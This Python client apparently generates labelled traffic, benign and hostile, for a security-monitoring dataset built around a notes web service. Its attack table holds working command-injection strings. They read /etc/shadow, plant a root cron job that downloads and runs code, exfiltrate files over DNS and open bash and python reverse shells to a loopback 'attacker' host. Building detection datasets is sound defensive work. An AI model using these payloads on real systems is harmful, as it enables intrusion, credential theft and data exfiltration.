#!/usr/bin/python3
"""Drives the notes-web service (app.py) for one recorded run.

  client.py MODE META_JSON [PAYLOAD_DIR]

MODE is "learn" (the service's test suite: every endpoint and error path,
in a fixed order), "prod-a" / "prod-b" (benign traffic with different
mixes, volumes and concurrency, seeded so reruns send the same requests),
or an attack name (benign traffic, the attack, benign traffic again).

The attacker's infrastructure (payload web server, DNS-like UDP listener
on port 53, reverse-shell listeners) runs here, on the guest's loopback,
outside the service's cgroup: it stands for "the internet".  The attack's
start/end times are written to META_JSON in CLOCK_BOOTTIME ns (the clock of
the records' ts_ns) and CLOCK_REALTIME ns.
"""
import http.client
import http.server
import json
import random
import socket
import socketserver
import sys
import threading
import time
import urllib.parse

HOST, PORT = "127.0.0.1", 8080
PAYLOAD_PORT, DNS_PORT, SHELL_PORT, TTY_PORT = 8081, 53, 4444, 4445


def now():
    return {"boot_ns": time.clock_gettime_ns(time.CLOCK_BOOTTIME),
            "realtime_ns": time.clock_gettime_ns(time.CLOCK_REALTIME)}


def request(method, path, body=None, timeout=60):
    c = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    try:
        c.request(method, path, body=body)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def wait_ready():
    for _ in range(600):
        try:
            if request("GET", "/health", timeout=2)[0] == 200:
                return
        except OSError:
            pass
        time.sleep(0.1)
    sys.exit("client: service did not come up")


def lookup(host, timeout=60):
    return request("GET", "/lookup?" + urllib.parse.urlencode({"host": host}), timeout=timeout)


def learn():
    """The functional test suite: each feature, success and error paths."""
    for _ in range(3):
        assert request("GET", "/")[0] == 200
        assert request("GET", "/static/site.css")[0] == 200
        assert request("GET", "/static/missing.png")[0] == 404
        assert request("GET", "/notes")[0] == 200
        for i in range(1, 6):
            assert request("GET", "/notes/note-%d.txt" % i)[0] == 200
        assert request("GET", "/notes/nope.txt")[0] == 404
        for i in range(3):
            name = "/notes/test-%d.txt" % i
            assert request("POST", name, b"test note %d\nline two\n" % i)[0] == 201
            assert request("GET", name)[0] == 200
        assert request("GET", "/report")[0] == 200
        assert request("GET", "/status")[0] == 200
        for h in ("localhost", "127.0.0.1", "ip6-localhost", "no-such-host.invalid"):
            assert lookup(h)[0] == 200
        for i in range(3):
            assert request("DELETE", "/notes/test-%d.txt" % i)[0] == 200
        assert request("DELETE", "/notes/test-9.txt")[0] == 404
        assert request("GET", "/admin")[0] == 404
        assert request("GET", "/health")[0] == 200


MIXES = {
    # office hours: mostly reading, a few edits and lookups
    "prod-a": {"n": 320, "threads": 2, "seed": 11, "w": {
        "index": 20, "css": 15, "list": 15, "read": 30, "write": 6, "delete": 2,
        "report": 4, "status": 2, "lookup": 6}},
    # batch day: many writes, reports and status polls, more concurrency
    "prod-b": {"n": 480, "threads": 4, "seed": 23, "w": {
        "index": 5, "css": 5, "list": 10, "read": 25, "write": 25, "delete": 10,
        "report": 10, "status": 5, "lookup": 5}},
    # background traffic around an attack
    "bg": {"n": 60, "threads": 2, "seed": 5, "w": {
        "index": 15, "css": 10, "list": 15, "read": 30, "write": 8, "delete": 2,
        "report": 6, "status": 4, "lookup": 10}},
}


def one(kind, rnd):
    if kind == "index":
        request("GET", "/")
    elif kind == "css":
        request("GET", "/static/site.css")
    elif kind == "list":
        request("GET", "/notes")
    elif kind == "read":
        request("GET", "/notes/note-%d.txt" % rnd.randint(1, 5))
    elif kind == "write":
        request("POST", "/notes/draft-%d.txt" % rnd.randint(1, 20),
                ("draft %d api token rotation\n" % rnd.randint(0, 999)).encode() * rnd.randint(1, 20))
    elif kind == "delete":
        request("DELETE", "/notes/draft-%d.txt" % rnd.randint(1, 20))
    elif kind == "report":
        request("GET", "/report")
    elif kind == "status":
        request("GET", "/status")
    elif kind == "lookup":
        lookup(rnd.choice(["localhost", "127.0.0.1", "ip6-localhost", "ip6-loopback"]))


def traffic(mix, seed_offset=0):
    m = MIXES[mix]
    kinds = list(m["w"])
    weights = [m["w"][k] for k in kinds]

    def worker(t):
        rnd = random.Random(m["seed"] * 100 + t + seed_offset)
        for _ in range(m["n"] // m["threads"]):
            one(rnd.choices(kinds, weights)[0], rnd)
            time.sleep(rnd.expovariate(40))   # think time, mean 25 ms
    ts = [threading.Thread(target=worker, args=(t,)) for t in range(m["threads"])]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


# ---- attacker infrastructure (loopback only) ----

def payload_server(directory):
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(*a, directory=directory, **k)
    http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
    srv = socketserver.TCPServer(("127.0.0.1", PAYLOAD_PORT), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def dns_listener(stop, got):
    """A resolver that answers every query with NXDOMAIN and keeps the names."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", DNS_PORT))
    s.settimeout(0.5)
    while not stop.is_set():
        try:
            data, peer = s.recvfrom(512)
        except socket.timeout:
            continue
        got.append(len(data))
        if len(data) >= 12:
            s.sendto(data[:2] + b"\x81\x83" + data[4:], peer)
    s.close()


def shell_listener(port, script, transcript):
    """Accepts one reverse shell and types SCRIPT into it, like an operator:
    wait for a prompt, send a line, wait for the next prompt (or PAUSE
    seconds of quiet when the shell prints none), and after the last line
    wait for the shell to close the connection."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", port))
    ls.listen(1)
    ls.settimeout(120)
    c, _ = ls.accept()
    c.settimeout(0.2)
    seen = [""]

    def until_prompt(limit, quiet):
        end, last = time.time() + limit, time.time()
        while time.time() < end:
            try:
                d = c.recv(4096)
            except socket.timeout:
                tail = seen[0][-64:].rstrip(" ")
                if tail.endswith(("#", "$")) or (quiet and time.time() - last > quiet):
                    return True
                continue
            if not d:
                return False
            transcript.append(d.decode(errors="replace"))
            seen[0] += transcript[-1]
            last = time.time()
        return True
    # an interactive bash loads its rc files and completions first: slow under emulation
    until_prompt(90, 0)
    for line, pause in script:
        seen[0] = ""
        c.sendall(line.encode())
        if not until_prompt(30, pause):
            break
    until_prompt(30, 0)            # until the shell exits and closes
    c.close()
    ls.close()


ATTACKS = {
    "cmdinj-shadow": {
        "label": "command injection in /lookup spawns a shell that reads /etc/shadow",
        "mitre": ["T1190", "T1059.004", "T1003.008"],
        "marker": "cat /etc/shadow",
        "host": "localhost; id; cat /etc/shadow; uname -a"},
    "webshell-cron": {
        "label": "injected commands write a cron job to /etc/cron.d and download and execute a payload",
        "mitre": ["T1505.003", "T1053.003", "T1105"],
        "marker": "/etc/cron.d/",
        "host": "localhost; echo '*/5 * * * * root curl -s http://127.0.0.1:8081/u.sh | sh' > /etc/cron.d/sys-update;"
                " curl -s -o /tmp/.u http://127.0.0.1:8081/u.sh; chmod +x /tmp/.u; /tmp/.u"},
    "ptrace-debugger": {
        "label": "strace attaches to the service, then a scraper ptrace-attaches and reads its memory (process_vm_readv)",
        "mitre": ["T1055.008", "T1003.007"],
        "marker": "strace",
        "host": "localhost; timeout 3 strace -f -e trace=read,write -p $PPID -o /tmp/.t;"
                " curl -s -o /tmp/.m http://127.0.0.1:8081/memscrape; chmod +x /tmp/.m; /tmp/.m $PPID"},
    "memory-spray": {
        "label": "downloaded loader sprays RWX mappings, mprotects RW pages to PROT_EXEC and sprays 64 MiB of anonymous memory",
        "mitre": ["T1105", "T1620"],
        "marker": "/tmp/.s",
        "host": "localhost; curl -s -o /tmp/.s http://127.0.0.1:8081/spray; chmod +x /tmp/.s; /tmp/.s"},
    "kexploit-staging": {
        "label": "downloaded stager: userfaultfd, unshare(CLONE_NEWUSER|CLONE_NEWNS) + uid_map, msgsnd/add_key/keyctl/shmget sprays",
        "mitre": ["T1105", "T1068"],
        "marker": "/tmp/.k",
        "host": "localhost; curl -s -o /tmp/.k http://127.0.0.1:8081/kstage; chmod +x /tmp/.k; /tmp/.k"},
    "dns-exfil": {
        "label": "notes and /etc/passwd exfiltrated base32-encoded in DNS queries (UDP to port 53)",
        "mitre": ["T1048.003", "T1071.004"],
        "marker": "python3 -",
        "host": "localhost; curl -s http://127.0.0.1:8081/x.py | python3 - /etc/passwd /srv/webapp/notes/note-1.txt"},
    "reverse-shell": {
        "label": "bash reverse shell (stdio over TCP to 127.0.0.1:4444) driven by the attacker",
        "mitre": ["T1059.004", "T1095"],
        "marker": "/dev/tcp/",
        "host": "localhost; bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
        "shell": (SHELL_PORT, [("id\n", 1), ("uname -a\n", 1), ("cat /etc/passwd\n", 1),
                               ("ls -la /srv/webapp\n", 1), ("ps aux\n", 2), ("exit\n", 1)])},
    "tty-shell": {
        "label": "reverse shell upgraded to a pty (python pty.spawn of bash), interactive commands typed by the attacker",
        "mitre": ["T1059.004", "T1059.006"],
        "marker": "pty.spawn",
        "host": "localhost; python3 -c 'import os,pty,socket;s=socket.create_connection((\"127.0.0.1\",4445));"
                "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
        "shell": (TTY_PORT, [("export TERM=xterm\n", 1), ("id\n", 1), ("cd /srv/webapp\n", 0.5),
                             ("ls -la\n", 1), ("cat notes/note-1.txt\n", 1), ("sudo -l\n", 1),
                             ("cat /etc/shadow | head -3\n", 1), ("exit\n", 1)])},
}


def attack(name, meta, payload_dir):
    a = ATTACKS[name]
    srv = payload_server(payload_dir)
    stop = threading.Event()
    dns = []
    threads = [threading.Thread(target=dns_listener, args=(stop, dns), daemon=True)]
    transcript = []
    if "shell" in a:
        port, script = a["shell"]
        threads.append(threading.Thread(target=shell_listener, args=(port, script, transcript)))
    for t in threads:
        t.start()
    time.sleep(0.5)
    traffic("bg", 0)
    bg = threading.Thread(target=traffic, args=("bg", 1))
    start = now()
    if name == "ptrace-debugger":
        bg.start()                       # requests flowing while the debugger is attached
    status, body = lookup(a["host"], timeout=180)
    for t in threads[1:]:
        t.join()
    end = now()
    if bg.is_alive() or name == "ptrace-debugger":
        bg.join()
    stop.set()
    srv.shutdown()
    traffic("bg", 2)
    meta["attack"] = {"name": name, "label": a["label"], "mitre": a["mitre"], "marker": a["marker"],
                      "request": "GET /lookup?host=" + a["host"], "http_status": status,
                      "start": start, "end": end, "dns_datagrams": len(dns),
                      "response_bytes": len(body), "shell_transcript_bytes": sum(map(len, transcript))}


def main():
    mode, meta_path = sys.argv[1], sys.argv[2]
    payload_dir = sys.argv[3] if len(sys.argv) > 3 else "/tmp"
    meta = {"mode": mode}
    wait_ready()
    meta["workload_start"] = now()
    if mode == "learn":
        learn()
    elif mode in MIXES:
        traffic(mode)
    else:
        attack(mode, meta, payload_dir)
    meta["workload_end"] = now()
    with open(meta_path, "w") as f:
        json.dump(meta, f, indent=1)


if __name__ == "__main__":
    main()
